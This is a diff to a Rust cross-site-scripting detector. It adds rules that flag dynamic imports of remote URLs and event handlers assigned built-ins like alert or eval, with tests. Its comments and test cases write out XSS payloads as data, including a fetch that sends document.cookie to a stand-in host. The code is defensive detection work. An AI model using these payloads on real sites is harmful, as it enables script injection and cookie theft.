@@ -23,9 +23,14 @@
 //!   lists scored 0.2-0.3, as did `<x onxxx=1` from a model trained without
 //!   the PayloadsAllTheThings lists).
 //! - [`runs_code_or_reads_secrets`]: a call of `eval`, `Function`,
-//!   `setTimeout`... with an expression, or `document.cookie`,
-//!   `localStorage`... read where something is called or assigned, is
-//!   script whatever it calls (`fetch('//x/'+document.cookie)` 0.09).
+//!   `setTimeout`... with an expression, a dynamic `import(` of a URL, an
+//!   event handler given `alert` or `eval` (`onerror=alert;throw 1`), or
+//!   `document.cookie`, `localStorage`... read where something is called or
+//!   assigned, is script whatever it calls (`fetch('//x/'+document.cookie)`
+//!   0.09).
+//! - [`handler_breakout`]: an event-handler attribute added after a quote
+//!   that closes an attribute value (`" onfocus="(open)('//x')`) runs its
+//!   value, whatever it calls.
 //! - [`string_breakout_call`]: a quote that closes a JavaScript string,
 //!   an operator or `;`, then a call (`'-fetch('//x/'+document.cookie)-'`,
 //!   `x');new Image().src=...`) is code in a script context, whatever it
@@ -324,7 +329,7 @@ fn scan_tag(b: &[u8], lt: usize) -> TagScan {
 /// `new Function(location.hash.slice(1))()`). A single name as the argument
 /// is left to the model (`eval(name)` is a payload, but `<code>eval(is)</code>`
 /// is how the generated benign corpus writes about code), and so is
-/// `import(`, a word of prose too.
+/// `import(`, a word of prose too, unless it loads a URL ([`imports_a_url`]).
 const CODE_RUNNERS: &[&[u8]] = &[
     b"eval",
     b"Function",
@@ -372,7 +377,7 @@ pub fn runs_code_or_reads_secrets(v: &str) -> bool {
             word_at(i, w) && b.get(i + w.len()) == Some(&b'(') && expression_at(i + w.len() + 1)
         })
     });
-    if runs_code {
+    if runs_code || imports_a_url(b) || hands_a_builtin_to_a_handler(b) {
         return true;
     }
     let reads_secret = SECRETS
@@ -386,6 +391,66 @@ pub fn runs_code_or_reads_secrets(v: &str) -> bool {
             }
             _ => false,
         })
+}
+
+/// A dynamic `import(` of a URL of another origin or of inline code
+/// (`import('//x.example/m.js')`, `import("data:text/javascript,...")`):
+/// the module runs on load (0.0008 to the model). A relative path
+/// (`import('./utils.js')`) is left to the model, as code people paste.
+fn imports_a_url(b: &[u8]) -> bool {
+    memchr::memmem::find_iter(b, b"import").any(|i| {
+        if i > 0 && is_identifier_byte(b[i - 1]) {
+            return false;
+        }
+        let open = skip_space(b, i + 6);
+        if b.get(open) != Some(&b'(') {
+            return false;
+        }
+        let q = skip_space(b, open + 1);
+        if !matches!(b.get(q), Some(b'\'' | b'"' | b'`')) {
+            return false;
+        }
+        let url = &b[q + 1..];
+        url.starts_with(b"//")
+            || ["http:", "https:", "data:", "blob:"]
+                .iter()
+                .any(|s| url.len() >= s.len() && url[..s.len()].eq_ignore_ascii_case(s.as_bytes()))
+    })
+}
+
+/// An event handler given a built-in function that needs no argument of
+/// the attacker's to do harm (`onerror=alert;throw 1`, `{onerror=eval}throw
+/// '=alert\x281\x29'`): the browser calls it when the event fires, and
+/// `throw` fires `onerror` at once, with no parenthesis in the value (0.05
+/// to the model).
+fn hands_a_builtin_to_a_handler(b: &[u8]) -> bool {
+    const BUILTINS: [&[u8]; 6] = [
+        b"alert",
+        b"confirm",
+        b"prompt",
+        b"eval",
+        b"print",
+        b"Function",
+    ];
+    memchr::memchr_iter(b'=', b).any(|i| {
+        if matches!(b.get(i + 1), Some(b'=' | b'>')) {
+            return false;
+        }
+        let end = skip_space_back(b, i);
+        if !identifier_before(b, end).is_some_and(is_event_handler) {
+            return false;
+        }
+        let start = skip_space(b, i + 1);
+        let name_end = start
+            + b[start..]
+                .iter()
+                .take_while(|c| is_identifier_byte(**c))
+                .count();
+        let name = &b[start..name_end];
+        let next = b.get(skip_space(b, name_end));
+        BUILTINS.contains(&name)
+            && !next.is_some_and(|&c| is_identifier_byte(c) || matches!(c, b'(' | b'.' | b'['))
+    })
 }
 
 /// Whether a quote that ends a JavaScript string is followed, after any
@@ -899,6 +964,33 @@ mod tests {
             "<?import namespace=\"x\">",
         ] {
             assert!(script_capable(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn loaders_and_handlers_given_a_builtin() {
+        for v in [
+            "import('//x.example/m.js')",
+            "import ( \"HTTPS://x.example/p.mjs\")",
+            "x=import(`data:text/javascript,alert(1)`)",
+            "onerror=alert;throw 1",
+            "{onerror=alert}throw 1",
+            "throw onerror=eval,'=alert\\x281\\x29'",
+            "window.onerror = confirm",
+        ] {
+            assert!(runs_code_or_reads_secrets(v), "{v}");
+        }
+        for v in [
+            "import('./utils.js') fails in Safari",
+            "How do I import('lodash') lazily?",
+            "reimport('//x')",
+            "onerror=alerts_channel",
+            "onerror = alert the user (spec)",
+            "onerror=alert(1)",
+            "online=alert;",
+            "onerror==alert",
+        ] {
+            assert!(!runs_code_or_reads_secrets(v), "{v}");
         }
     }
 
